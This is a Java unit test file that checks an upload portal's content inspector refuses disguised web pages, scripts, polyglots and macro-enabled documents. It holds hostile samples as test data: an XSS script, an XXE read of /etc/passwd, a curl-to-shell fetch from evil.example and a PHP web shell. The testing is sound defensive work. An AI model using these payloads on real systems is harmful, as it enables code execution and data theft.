package com.claudioportal.upload;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.claudioportal.infra.TestFiles;

/**
 * Documents are judged by their content: web pages, XML, SVG and scripts are refused although Tika
 * calls them text, and a zip is a Word or OpenDocument file only when its entries say so.
 */
class DocumentSniffingTest {

    @TempDir
    Path dir;

    final ContentInspector inspector = inspector();

    @Test
    void markupAndScriptsAreNotDocumentsWhateverTheirName() throws IOException {
        Map<String, String> hostile = Map.of(
                "loi.txt", "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
                "scan.pdf", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
                "letter.rtf", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                "notes.txt", "#!/bin/sh\ncurl http://evil.example | sh\n",
                "report.txt", "Claimant: J. Doe\nThe report follows.\n<script src=//evil.example/x.js></script>\n",
                "form.doc", "<?php system($_GET['c']); ?>");
        for (var e : hostile.entrySet()) {
            var inspection = inspector.inspect(file(e.getKey(), e.getValue().getBytes(StandardCharsets.UTF_8)), e.getKey(), UploadKind.DOCUMENT);
            assertFalse(inspection.ok(), e.getKey() + " was accepted as " + inspection.contentType());
            assertTrue(inspection.problem().startsWith("\u201c" + e.getKey() + "\u201d is not a document the portal accepts"), inspection.problem());
        }
    }

    @Test
    void aPdfThatIsAlsoAWebPageIsRefused() throws IOException {
        byte[] polyglot = ("%PDF-1.4\n%<html><script>alert(1)</script>\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n")
                .getBytes(StandardCharsets.ISO_8859_1);
        var inspection = inspector.inspect(file("polyglot.pdf", polyglot), "polyglot.pdf", UploadKind.DOCUMENT);
        assertFalse(inspection.ok());
        assertTrue(inspection.problem().contains("(it contains web page or script code)"), inspection.problem());
        assertTrue(inspector.inspect(TestFiles.pdf("clean.pdf"), "clean.pdf", UploadKind.DOCUMENT).ok());
    }

    @Test
    void plainLettersStayDocuments() throws IOException {
        assertTrue(inspector.inspect(TestFiles.text("ltr.txt", "Claimant: J. Doe\nInsurer: Acme\nDiagnosis: tear < 2 cm\n"), "l.txt",
                UploadKind.DOCUMENT).ok());
        assertTrue(inspector.inspect(TestFiles.text("fr.txt", "Lettre d'instruction – Éloïse Tremblay, évaluation médicale.\n"), "l.txt",
                UploadKind.DOCUMENT).ok());
    }

    @Test
    void aZipIsAWordOrOpenDocumentFileOnlyWhenItsEntriesSaySo() throws IOException {
        Path docx = zip("real.docx", Map.of("[Content_Types].xml",
                "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument."
                        + "wordprocessingml.document.main+xml\"/></Types>", "word/document.xml", "<w:document/>"), null);
        var word = inspector.inspect(docx, "whatever-name.bin", UploadKind.DOCUMENT);
        assertTrue(word.ok(), word.problem());
        assertEquals(DocumentContainers.DOCX, word.contentType(), "the entries decide, not the name");

        Path odt = zip("real.odt", Map.of("content.xml", "<office:document-content/>"), "application/vnd.oasis.opendocument.text");
        assertEquals(DocumentContainers.ODT, inspector.inspect(odt, "letter.odt", UploadKind.DOCUMENT).contentType());

        var bare = inspector.inspect(zip("fake.docx", Map.of("readme.txt", "hello"), null), "fake.docx", UploadKind.DOCUMENT);
        assertFalse(bare.ok());
        assertTrue(bare.problem().contains("(it is a zip archive)"), bare.problem());

        Path macro = zip("macro.docx", Map.of("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.ms-word.document."
                + "macroEnabled.main+xml\"/></Types>", "word/document.xml", "<w:document/>", "word/vbaProject.bin", "x"), null);
        assertFalse(inspector.inspect(macro, "macro.docx", UploadKind.DOCUMENT).ok(), "a Word file with macros is refused");

        Path spreadsheet = zip("sheet.odt", Map.of("content.xml", "<x/>"), "application/vnd.oasis.opendocument.spreadsheet");
        assertFalse(inspector.inspect(spreadsheet, "sheet.odt", UploadKind.DOCUMENT).ok(), "an .ods named .odt is not text");
    }

    @Test
    void aGifThatIsAlsoAZipIsAnImage() throws IOException {
        Path zip = zip("inner.zip", Map.of("[Content_Types].xml", "x", "word/document.xml", "y"), null);
        byte[] gifar = concat("GIF89a\u0001\u0000\u0001\u0000".getBytes(StandardCharsets.ISO_8859_1), Files.readAllBytes(zip));
        var inspection = inspector.inspect(file("gifar.docx", gifar), "gifar.docx", UploadKind.DOCUMENT);
        assertFalse(inspection.ok());
        assertTrue(inspection.problem().contains("(it is an image)"), inspection.problem());
    }

    private Path file(String name, byte[] content) throws IOException {
        return Files.write(dir.resolve(name), content);
    }

    /** A zip with these entries; an OpenDocument's stored "mimetype" entry first when given. */
    private Path zip(String name, Map<String, String> entries, String mimetype) throws IOException {
        Path file = dir.resolve(name);
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(file))) {
            if (mimetype != null) {
                byte[] m = mimetype.getBytes(StandardCharsets.US_ASCII);
                ZipEntry e = new ZipEntry("mimetype");
                e.setMethod(ZipEntry.STORED);
                e.setSize(m.length);
                java.util.zip.CRC32 crc = new java.util.zip.CRC32();
                crc.update(m);
                e.setCrc(crc.getValue());
                out.putNextEntry(e);
                out.write(m);
                out.closeEntry();
            }
            for (var entry : entries.entrySet()) {
                out.putNextEntry(new ZipEntry(entry.getKey()));
                out.write(entry.getValue().getBytes(StandardCharsets.UTF_8));
                out.closeEntry();
            }
        }
        return file;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = new byte[a.length + b.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    static ContentInspector inspector() {
        ContentInspector inspector = new ContentInspector();
        inspector.config = new UploadConfig() {
            public Path storageDir() {
                return Path.of("target");
            }

            public long maxAudioBytes() {
                return 250_000_000L;
            }

            public long maxDocumentBytes() {
                return 50_000_000L;
            }

            public List<String> audioTypes() {
                return List.of("audio/mpeg", "audio/wav", "audio/vnd.wave", "audio/x-wav", "video/mp4");
            }

            public List<String> documentTypes() {
                return List.of("application/pdf", "application/msword", DocumentContainers.DOCX, "application/rtf", "text/rtf",
                        DocumentContainers.ODT, "text/plain");
            }

            public Duration abandonedAfter() {
                return Duration.ofHours(24);
            }

            public int maxConcurrentPerUser() {
                return 4;
            }

            public long tenantQuotaBytes() {
                return Long.MAX_VALUE;
            }

            public long minBytesPerSecond() {
                return 0;
            }

            public Duration rateWindow() {
                return Duration.ofMinutes(1);
            }

            public Duration orphanAfter() {
                return Duration.ofHours(6);
            }
        };
        return inspector;
    }
}
